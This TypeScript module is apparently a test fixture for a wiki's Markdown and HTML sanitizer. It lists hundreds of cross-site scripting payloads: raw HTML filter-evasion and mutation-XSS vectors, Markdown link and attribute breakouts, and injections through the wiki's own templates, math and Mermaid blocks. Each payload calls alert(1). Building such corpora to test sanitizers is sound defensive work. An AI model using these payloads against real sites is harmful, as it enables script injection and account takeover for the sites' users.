/**
 * Attempts to run a script from the text of a page: raw HTML of every family known from the literature on filter evasion and
 * mutation XSS, and Markdown that tries to break out of what the renderer writes. All of them call `alert`.
 *
 * @module
 */

/** Raw HTML. */
const HTML: readonly string[] = (String.raw`
<script>alert(1)</script>
<SCRIPT SRC=//x.example/x.js></SCRIPT>
<script/src=data:,alert(1)></script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script>alert(1)//
<script ~~~>alert(1)</script ~~~>
<script type="module">alert(1)</script>
<script
>alert(1)</script
>
<svg><script>alert(1)</script></svg>
<svg><script href="data:,alert(1)"/></svg>
<svg><script xlink:href="data:,alert(1)"></script></svg>
<math><script>alert(1)</script></math>
<img src=x onerror=alert(1)>
<IMG SRC=x OnErRoR=alert(1)>
<img src=x onerror="alert(1)"//
<img src=x onerror=alert(1)
<img/src=x/onerror=alert(1)>
<img src=x:x onerror=&#97;lert(1)>
<img src='x'onerror='alert(1)'>
<img """><script>alert(1)</script>">
<img src="x\"> onerror=alert(1)">
<img src=x onload=alert(1) onerror=alert(1)>
<img srcset="x" onerror=alert(1)>
<img src=javascript:alert(1)>
<img src="jav&#x09;ascript:alert(1)">
<img src="data:image/svg+xml,<svg onload=alert(1)>">
<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>
<img src=x alt="x` + "`" + String.raw`onerror=alert(1) ">
<img src=x onerror
=
alert(1)>
<image src=x onerror=alert(1)>
<image href=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg
onload=alert(1)>
<svg><g onload=alert(1)></g></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set onbegin=alert(1) attributeName=x>
<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text x=20 y=20>x</text></a>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=x onerror=alert(1) /></svg>#x">
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><desc><img src=x onerror=alert(1)></desc></svg>
<svg><title><img src=x onerror=alert(1)></title></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>
<svg><textarea><img src=x onerror=alert(1)></textarea></svg>
<svg><noscript><img src=x onerror=alert(1)></noscript></svg>
<math href=javascript:alert(1)>x</math>
<math><maction actiontype="statusline#" xlink:href="javascript:alert(1)">x</maction></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext><table><mglyph><style><math><img src onerror=alert(1)></style>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<body onload=alert(1)>
<body background=javascript:alert(1)>
<body onpageshow=alert(1)>
<html onmouseover=alert(1)>
<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.alert(1)&gt;">
<iframe src="data:text/html,<script>alert(1)</script>"></iframe>
<iframe onload=alert(1)></iframe>
<iframe><img src=x onerror=alert(1)></iframe>
<iframe/src="javascript:alert(1)
<object data=javascript:alert(1)></object>
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>
<object><param name=src value=javascript:alert(1)></object>
<embed src=javascript:alert(1)>
<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<applet code=x onerror=alert(1)></applet>
<link rel=stylesheet href=javascript:alert(1)>
<link rel=import href="data:text/html,<script>alert(1)</script>">
<link rel=preload as=script href=x onload=alert(1) onerror=alert(1)>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv="refresh" content="0;url=data:text/html,<script>alert(1)</script>">
<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<base href="javascript:/a/+alert(1)//"><a href=x>x</a>
<base target=_top href=//x.example>
<style>@import 'javascript:alert(1)';</style>
<style>*{background:url("javascript:alert(1)")}</style>
<style><img src="</style><img src=x onerror=alert(1)>">
<style onload=alert(1)></style>
<div style="background:url(javascript:alert(1))">x</div>
<div style="width:expression(alert(1))">x</div>
<div style="animation:x" onanimationstart=alert(1)>x</div>
<p style="position:fixed;inset:0">cover</p>
<table background=javascript:alert(1)><td background=javascript:alert(1)>x</table>
<a href=javascript:alert(1)>x</a>
<a href=" javascript:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="javascript&#58;alert(1)">x</a>
<a href="javascript&#x3A;alert(1)">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>
<a href="&#0000106avascript:alert(1)">x</a>
<a href="jav&Tab;ascript:alert(1)">x</a>
<a href="jav&NewLine;ascript&colon;alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="&#x20;&#x0C;javascript:alert(1)">x</a>
<a href="javascript:alert(1)" target=_blank>x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="java
script:alert(1)">x</a>
<a href="vbscript:alert(1)">x</a>
<a href="livescript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="blob:x">x</a>
<a href="//x.example" ping=//x.example/p>x</a>
<a href="/\x.example">x</a>
<a href=x onclick=alert(1)>x</a>
<a href=x onfocus=alert(1) autofocus tabindex=0>x</a>
<a href="x" / onclick=alert(1)>x</a>
<a href='x' onmouseover='alert(1)'>x</a>
<a onmouseover=alert(1)>x</a>
<a href=x onpointerenter=alert(1) onpointerdown=alert(1)>x</a>
<a href=x style=display:block onfocusin=alert(1)>x</a>
<a href=x download=x.html onauxclick=alert(1)>x</a>
<a id=alert name=alert href=x>x</a>
<b onmouseover=alert(1)>x</b>
<b/onclick=alert(1)>x</b>
<b "onclick=alert(1)>x</b>
<b a='>' onmouseover=alert(1)>x</b>
<b a=">" onmouseover=alert(1)>x</b>
<p contenteditable onfocus=alert(1) onblur=alert(1) onkeydown=alert(1) tabindex=0>x</p>
<div tabindex=0 onfocus=alert(1)>x</div>
<div onwheel=alert(1) onscroll=alert(1) oncopy=alert(1)>x</div>
<div popover id=x onbeforetoggle=alert(1)>x</div><button popovertarget=x>x</button>
<div hidden=until-found onbeforematch=alert(1)>x</div>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<details open ontoggle=alert(1)><summary>x</summary></details>
<details/open/ontoggle=alert(1)>
<summary onclick=alert(1)>x</summary>
<marquee onstart=alert(1)>x</marquee>
<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<video poster=javascript:alert(1)></video>
<video controls oncanplay=alert(1)><source src="data:video/mp4,"></video>
<audio src=x onerror=alert(1)></audio>
<audio src onloadstart=alert(1)>
<picture><source srcset=x onerror=alert(1)><img src=x onerror=alert(1)></picture>
<track onerror=alert(1) src=x>
<canvas onmouseover=alert(1)></canvas>
<input onfocus=alert(1) autofocus>
<input type=image src=x onerror=alert(1)>
<input type=checkbox onclick=alert(1)>
<input type=text value="x" onfocus=alert(1)>
<input type=submit formaction=javascript:alert(1)>
<button onclick=alert(1)>x</button>
<button formaction=javascript:alert(1) form=f>x</button><form id=f></form>
<form action=javascript:alert(1)><input type=submit></form>
<form><button formaction=javascript:alert(1)>x</button></form>
<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>
<isindex action=javascript:alert(1) type=submit>
<select onfocus=alert(1) autofocus></select>
<select><option><img src=x onerror=alert(1)></option></select>
<select><template><img src=x onerror=alert(1)></template></select>
<select><style></select><img src=x onerror=alert(1)></style>
<textarea onfocus=alert(1) autofocus></textarea>
<textarea><img src="</textarea><img src=x onerror=alert(1)>">
<textarea></textarea/><img src=x onerror=alert(1)>
<keygen onfocus=alert(1) autofocus>
<object onerror=alert(1) data=x>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><img src=x onerror=alert(1)></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noscript><style></noscript><img src=x onerror=alert(1)></style></noscript>
<noembed><img src="</noembed><img src=x onerror=alert(1)>">
<noframes><img src="</noframes><img src=x onerror=alert(1)>">
<xmp><p title="</xmp><img src=x onerror=alert(1)>">
<title><img src="</title><img src=x onerror=alert(1)>">
<plaintext><img src=x onerror=alert(1)>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<comment><img src="</comment><img src=x onerror=alert(1)>">
<!--><img src=x onerror=alert(1)>-->
<!--->
<img src=x onerror=alert(1)>
<!-- --!><img src=x onerror=alert(1)> -->
<!--<img src="--><img src=x onerror=alert(1)//">
<!-- - --><img src=x onerror=alert(1)>
<!-- <!-- --><img src=x onerror=alert(1)> -->
<![CDATA[><img src=x onerror=alert(1)>]]>
<?x ><img src=x onerror=alert(1)>?>
<?xml-stylesheet href="javascript:alert(1)"?>
<!DOCTYPE x [<!ENTITY x "<script>alert(1)</script>">]>&x;
</><img src=x onerror=alert(1)>
</ ><img src=x onerror=alert(1)>
<//><img src=x onerror=alert(1)>
</p><img src=x onerror=alert(1)>
</div></section></main><script>alert(1)</script>
</pre></code><img src=x onerror=alert(1)>
<<img src=x onerror=alert(1)>
<%<img src=x onerror=alert(1)>%>
<a<img src=x onerror=alert(1)>
<x:img src=x onerror=alert(1)>
<custom-element onclick=alert(1) tabindex=0>x</custom-element>
<x onclick=alert(1) tabindex=0 contenteditable>x</x>
<x/onmouseover=alert(1)>x
<table><tr><td><img src=x onerror=alert(1)></td></tr></table>
<table><style><img src=x onerror=alert(1)></style></table>
<table><a href=javascript:alert(1)>x</a></table>
<p id="</p><img src=x onerror=alert(1)>">x</p>
<p title="&quot;><img src=x onerror=alert(1)>">x</p>
<p title='&#39;><img src=x onerror=alert(1)>'>x</p>
<p title="` + "`" + String.raw`><img src=x onerror=alert(1)>">x</p>
<q cite=javascript:alert(1)>x</q>
<blockquote cite="javascript:alert(1)">x</blockquote>
<del cite=javascript:alert(1) datetime=x>x</del>
<ol start="1 onclick=alert(1)"><li value="x onclick=alert(1)">x</ol>
<time datetime="x" onclick=alert(1)>x</time>
<td align="left onclick=alert(1)">x</td>
<div role="region" aria-label="x" onclick=alert(1) tabindex=0>x</div>
<div class="table-scroll" id=main tabindex=0 onscroll=alert(1)>x</div>
<span class="hljs-x" onclick=alert(1)>x</span>
<section class="footnotes" onclick=alert(1)>x</section>
<a class="anchor" href="javascript:alert(1)">x</a>
<img id=cookie name=cookie>
<a id=defaultView></a><a id=defaultView name=alert></a>
<a id=location href=javascript:alert(1)>x</a>
<form id=document><input name=body><input name=cookie></form>
<img name=getElementById><img name=createElement>
<div id=__proto__><a id=constructor name=prototype href=javascript:alert(1)>x</a></div>
<nobr onmouseover=alert(1)>x
<ruby><rt onmouseover=alert(1)>x</rt></ruby>
<portal src=javascript:alert(1)></portal>
<fencedframe src=javascript:alert(1)></fencedframe>
<bgsound src=javascript:alert(1)>
<layer src=javascript:alert(1)></layer>
<xml id=x><a onclick=alert(1)>x</a></xml>
<img src=x onerror="&#0000097;lert(1)">
<img src=x onerror=\u0061lert(1)>
<img src=x onerror=top['al'+'ert'](1)>
<img src=x onerror=eval(atob('YWxlcnQoMSk='))>
<img src=x onerror=window.onerror=alert;throw+1>
<img src=x one<!-- -->rror=alert(1)>
＜img src=x onerror=alert(1)＞
%3Cimg src=x onerror=alert(1)%3E
&lt;img src=x onerror=alert(1)&gt;
&amp;lt;img src=x onerror=alert(1)&amp;gt;
\x3cimg src=x onerror=alert(1)\x3e
`).trim().split(/\n(?=[<＜%&\\])/);

/** Markdown that tries to leave what the renderer writes. */
const MARKDOWN: readonly string[] = [
  ..."[x](|![x](|[x]: |<".split("|").flatMap((opening) =>
    [
      "javascript:alert(1)",
      "JaVaScRiPt:alert(1)",
      "java&#115;cript:alert(1)",
      "javascript&colon;alert(1)",
      "&#x6A;avascript:alert(1)",
      "\u0001javascript:alert(1)",
      "\u00a0javascript:alert(1)",
      "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
      "vbscript:alert(1)",
      "java\\script:alert(1)",
      "javascript\\:alert(1)",
      "javascript://%0aalert(1)",
      "//x.example/x.js",
      "/\\x.example",
      "x\"onerror=\"alert(1)",
      "x'onmouseover='alert(1)",
      "x`onmouseover=alert(1)`",
      "x><img/src=x/onerror=alert(1)>",
      'https://a.b/?"><script>alert(1)</script>',
      "https://a.b/&quot;onmouseover=&quot;alert(1)",
    ].map((address) => {
      if (opening === "[x]: ") return `[x]: ${address}\n\n[x] ![x]`;
      return `${opening}${address}${opening === "<" ? ">" : ")"}`;
    })
  ),
  "[x](java\tscript:alert(1))",
  "[x](<java\nscript:alert(1)>)",
  "[x](<javascript:alert(1)>)",
  '[x](y "\\"onclick=alert(1) ")',
  "[x](y 'onclick=alert(1)')",
  "[x](y (\" onmouseover=alert(1)))",
  '![x"onerror="alert(1)](x)',
  "![<img src=x onerror=alert(1)>](x)",
  "![[[x\"onerror=alert(1)]]](x)",
  "[<img src=x onerror=alert(1)>](x)",
  "[![x](x\"onerror=alert(1))](javascript:alert(1))",
  "<a@b.c\"onmouseover=alert(1)>",
  "<https://a.b/\"onclick=alert(1)//>",
  "www.a.b/\"onmouseover=alert(1)//",
  "https://a.b/'onmouseover=alert(1)//",
  "a\"onmouseover=alert(1)@b.example",
  "[[<img src=x onerror=alert(1)>]]",
  "[[x|<img src=x onerror=alert(1)>]]",
  "[[<script>alert(1)</script>|x]]",
  "[[javascript:alert(1)]]",
  "[[javascript:alert(1)|x]]",
  "[[//x.example|x]]",
  '[[x" onmouseover="alert(1)]]',
  "[[x' onmouseover='alert(1)|y]]",
  "[[x#\" onmouseover=\"alert(1)]]",
  "[[#\" onmouseover=\"alert(1)]]",
  "[[data:text/html,<script>alert(1)</script>]]",
  "[[&#34; onmouseover=&#34;alert(1)]]",
  "[[x\\|\"><img src=x onerror=alert(1)>]]",
  "[x](#\"onmouseover=\"alert(1))",
  "[x](#javascript:alert(1))",
  "# <img src=x onerror=alert(1)>",
  '# x" onmouseover="alert(1)',
  "# [x](javascript:alert(1))",
  "# __proto__\n# constructor\n# location\n# cookie\n# body",
  "# user-content-x\n# fn-1\n# fnref-1",
  "<img src=x onerror=alert(1)>\n===",
  "```\"><script>alert(1)</script>\nx\n```",
  "``` <img/src=x/onerror=alert(1)>\nx\n```",
  '```js" onmouseover="alert(1)\nx\n```',
  "```html\n<img src=x onerror=alert(1)>\n```",
  "```xml\n<script>alert(1)</script>\n```",
  "~~~ '><svg/onload=alert(1)>\nx\n~~~",
  "```hljs onclick=alert(1)\n</code></pre><img src=x onerror=alert(1)>\n```",
  "    <img src=x onerror=alert(1)>",
  "`<img src=x onerror=alert(1)>`",
  "``</code><img src=x onerror=alert(1)>``",
  "| a |\n|-|\n| <img src=x onerror=alert(1)> |",
  '| a |\n|:-" onmouseover="alert(1):|\n| b |',
  "|<script>|\n|-|\n|alert(1)</script>|",
  "| a |\n|-|\n| `</td><img src=x onerror=alert(1)>` |",
  "x[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
  "x[^<img/src=x/onerror=alert(1)>]\n\n[^<img/src=x/onerror=alert(1)>]: y",
  'x[^"onmouseover="alert(1)]\n\n[^"onmouseover="alert(1)]: y',
  "x[^__proto__][^constructor][^toString]\n\n[^__proto__]: a\n\n[^constructor]: b\n\n[^toString]: c",
  "x[^1]\n\n[^1]: [x](javascript:alert(1))",
  '> [!NOTE"><img src=x onerror=alert(1)>]\n> x',
  "> [!NOTE]\n> <img src=x onerror=alert(1)>",
  "> [!NOTE]<script>alert(1)</script>\n> x",
  "- [ ] <img src=x onerror=alert(1)>",
  '- [x" onclick="alert(1)] x',
  '---\ntitle: "<img src=x onerror=alert(1)>"\n---\nx',
  "---\n<script>alert(1)</script>: x\n---\n<script>alert(1)</script>",
  "---\n__proto__: {onerror: alert(1)}\n---\n[x](y)",
  "[constructor]: javascript:alert(1)\n\n[constructor] [__proto__] [toString][]",
  "[__proto__]: javascript:alert(1)\n\n[__proto__]",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "\\<img src=x onerror=alert(1)\\>",
  "<b\\ onclick=alert(1)>x</b>",
  "<div>\n\n</div><script>alert(1)</script>",
  "<div title=\"\n\n\" onmouseover=alert(1) x=\"\">x</div>",
  "<a href=\"\n\njavascript:alert(1)\">x</a>",
  "<!--\n\n--><img src=x onerror=alert(1)>",
  "- <!--\n\n<img src=x onerror=alert(1)>\n-->",
  "> <textarea>\n\n<img src=\"</textarea><img src=x onerror=alert(1)>\">",
  "*<img src=x onerror=*alert(1)>*",
  "<img src=x onerror=alert(1) **bold** >",
  "<i*mg src=x onerror=alert(1)>",
  "~~<img src=x onerror=~~alert(1)>",
  "<a href=\"[x](y)\" onclick=alert(1)>x</a>",
  "<a href=\"`\">`\" onclick=alert(1)>x</a>",
  "[x`](javascript:alert(1)`)",
  "[x](`javascript:alert(1)`)",
  "$<img src=x onerror=alert(1)>$ $\\href{javascript:alert(1)}{x}$",
  "{{<img src=x onerror=alert(1)>}} ::: <script>alert(1)</script>",
  "\u2028<img src=x onerror=alert(1)>\u2029",
  "<img src=x\u0000onerror=alert(1)>",
  "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
  "<\u0000img src=x onerror=alert(1)>",
  "x0000000000000000000000000000000x0x href=\"x00x\"",
];

/** The wiki's own constructs, each as a way to break out. */
const OWN: readonly string[] = [
  "==<img src=x onerror=alert(1)>== ==<script>alert(1)</script>==",
  "==<b onclick=alert(1)>x== y</b>",
  '*[x]: " onmouseover="alert(1)\n\nx <b title="x">x</b>',
  '*[x]: "><img src=x onerror=alert(1)>\n\n[x](x "x") `x` x',
  '*["><script>alert(1)</script>]: y\n\n"><script>alert(1)</script>',
  '*[onerror]: y\n\n<img src=x onerror=alert(1)> onerror',
  '::: "><script>alert(1)</script>\nx\n:::',
  '::: x" onmouseover="alert(1)\nx\n:::',
  ":::x\"onclick=alert(1)\nx\n:::",
  "::: info <img src=x onerror=alert(1)>\nx\n:::",
  "::: info\n# <img src=x onerror=alert(1)>\n:::\n<script>alert(1)</script>",
  "::: info\n<div>\n:::\n<img src=x onerror=alert(1)>",
  "::: info\n<!--\n:::\n--><img src=x onerror=alert(1)>",
  ">! <img src=x onerror=alert(1)>\n>! <script>alert(1)</script>",
  ">| # <img src=x onerror=alert(1)>\n>| <details ontoggle=alert(1) open>",
  ">| # </summary><script>alert(1)</script>",
  "<details class=spoiler ontoggle=alert(1) open><summary onclick=alert(1)>x</summary></details>",
  "$\\text{<script>alert(1)</script>}$",
  "$</annotation></semantics></math><img src=x onerror=alert(1)>$",
  "$\\text{</annotation><img src=x onerror=alert(1)>}$",
  "$\\href{javascript:alert(1)}{x} \\url{javascript:alert(1)}$",
  "$\\htmlData{x=y onclick=alert(1)}{x} \\htmlStyle{x}{y} \\htmlClass{\"onclick=alert(1)}{x} \\htmlId{x}{y}$",
  "$\\includegraphics[alt=x]{javascript:alert(1)}$",
  "$\\unicode{x3c}img src=x onerror=alert(1)\\unicode{x3e}$ $\\char`<img$",
  "$\\color{red\" onclick=\"alert(1)}{x} \\textcolor{#f00;x}{y}$",
  "$\\tag{<img src=x onerror=alert(1)>}$ $$x \\tag{\"><script>alert(1)</script>}$$",
  "$\\foo<img src=x onerror=alert(1)>$ $\\undefined\"><script>alert(1)</script>$",
  "`$<img src=x onerror=alert(1)>$`",
  "$$\n<script>alert(1)</script>\n$$",
  "$$\n</math><img src=x onerror=alert(1)>\n$$",
  "```math\n</math><script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
  "<math><mtext>$x$</mtext><img src=x onerror=alert(1)></math>",
  '<span class="katex"><math><mtext><script>alert(1)</script></mtext></math></span>',
  '<div title="$x$ onclick=alert(1)">$<$</div>',
  '<a title="$x$" href="$y$">$"onclick=alert(1)$</a>',
  "[$x$](javascript:alert(1)) ![$<img src=x onerror=alert(1)>$](y)",
  "# $<img src=x onerror=alert(1)>$ [[$x$|<script>alert(1)</script>]]",
  "```mermaid\n</pre><script>alert(1)</script>\ngraph <img src=x onerror=alert(1)>\n```",
  '```mermaid\ngraph LR\nA["<img src=x onerror=alert(1)>"]\nclick A href "javascript:alert(1)"\nclick A call alert(1)\n```',
  "```mermaid\n%%{init: {'securityLevel': 'loose', 'htmlLabels': true}}%%\ngraph LR\nA[<script>alert(1)</script>]\n```",
  '<pre class="mermaid" onclick=alert(1)>graph LR; A[<img src=x onerror=alert(1)>]</pre>',
  '```"onclick=alert(1)=\nx\n```',
  "```x=<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
  '```js=9"onclick=alert(1)\nx\n```',
  "{{<script>alert(1)</script>}}",
  '{{Nope" onclick="alert(1)}}',
  "{{Nope|<img src=x onerror=alert(1)>}}",
  "{{Nope\n<script>alert(1)</script>\n}}",
  '{{Figure\n|width=1%" onclick="alert(1)\n|caption=<img src=x onerror=alert(1)>\n|style="x:expression(alert(1))"\n<script>alert(1)</script>\n}}',
  '{{Figure\n|align=left" onmouseover="alert(1)\n|text-align=center"><script>alert(1)</script>\n}}',
  '{{ImageFrame\n|src=x" onerror="alert(1)\n|alt="><script>alert(1)</script>\n|caption="><script>alert(1)</script>\n|style=background:url(javascript:alert(1))\n}}',
  "{{ImageFrame|src=javascript:alert(1)}}\n\n{{ImageFrame|src=data:text/html,<script>alert(1)</script>}}",
  "{{ImageFrame|src=jav&#x09;ascript:alert(1)}}\n\n{{ImageFrame|src= &#1;javascript:alert(1)}}",
  "{{ImageFrame\n![x](javascript:alert(1))\n<svg onload=alert(1)>\n}}",
  '{{InfoBox\n|<img src=x onerror=alert(1)>=<img src=x onerror=alert(1)>\n|k"onclick="alert(1)=v\n|_style=x" onclick="alert(1)\n</td></table><script>alert(1)</script>\n}}',
  "{{InfoBox\n|a=<td onclick=alert(1)>\n|b=[x](javascript:alert(1))\n}}",
  '{{Video\nhttps://youtu.be/abcdefghijk"onload="alert(1)\n}}',
  "{{Video\nhttps://www.youtube.com/embed/<script>\n}}\n\n{{Video|src=javascript:alert(1)}}",
  '{{Video\n|width=100%"><script>alert(1)</script>\n|loop="><script>alert(1)</script>\n/x.mp4" onerror="alert(1)\n}}',
  "{{Video\nhttps://youtube-nocookie.com@evil.example/embed/abcdefghijk\ndata:text/html,<script>alert(1)</script>\n}}",
  '{{DataTable\n|caption=<script>alert(1)</script>\n|perPage=1" onclick="alert(1)\n|a|<img src=x onerror=alert(1)>|\n|-|-|\n|<script>alert(1)</script>|x|\n}}',
  '{{DataTable|src=javascript:alert(1)}}\n\n<figure class="data-table" data-features="<img src=x onerror=alert(1)>" data-per-page="alert(1)" onclick=alert(1)><table><tr><td>x</td></tr></table></figure>',
  '{{AttachmentList|caption=<script>alert(1)</script>|filter="><script>alert(1)</script>}}',
  '{{PageIndex|src="><script>alert(1)</script>|toggle=on|style="onclick=alert(1)}}',
  "{{include|src=<script>alert(1)</script>}}\n\n{{include|src=javascript:alert(1)}}",
  "![[<script>alert(1)</script>]]\n\n![[x#<img src=x onerror=alert(1)>]]",
  '![[x.png|" onerror="alert(1)]] ![[" onerror="alert(1).png]] ![[javascript:alert(1).png]]',
  "![[x.mp4\" onerror=\"alert(1)|<script>alert(1)</script>.mp4]]",
  '<a class="edit-section" target="x" onclick=alert(1) href="javascript:alert(1)">x</a>',
  '<p data-line="1" onclick=alert(1)>x</p><div data-line="<script>">y</div>',
];

/** Everything, each once. */
export const XSS: readonly string[] = [
  ...new Set([...HTML, ...MARKDOWN, ...OWN]),
];

/** A text inside each of the wiki's own constructs. */
export function ownConstructs(text: string): string {
  const line = text.replaceAll("\n", " ");
  const quoted = (mark: string) => `${mark}${text.replaceAll("\n", `\n${mark}`)}`;
  return [
    `::: info ${line}\n${text}\n:::`,
    `::: ${line}\n# ${line}\n:::`,
    quoted(">! "),
    `>| # ${line}\n${quoted(">| ")}`,
    `{{InfoBox\n|caption=${line}\n|${line}=x\n|k=${line}\n${text}\n}}`,
    `{{ImageFrame|src=${line}|alt=${line}|width=${line}}}`,
    `{{Video\n${line}\n}}`,
    `==${line}== $${line}$ \`$${line}$\``,
    `*[${line}]: ${line}`,
    `![[${line}]]`,
    `![[x.png|${line}]]`,
    "```mermaid\n" + text + "\n```",
    "```math\n" + text + "\n```",
  ].join("\n\n");
}
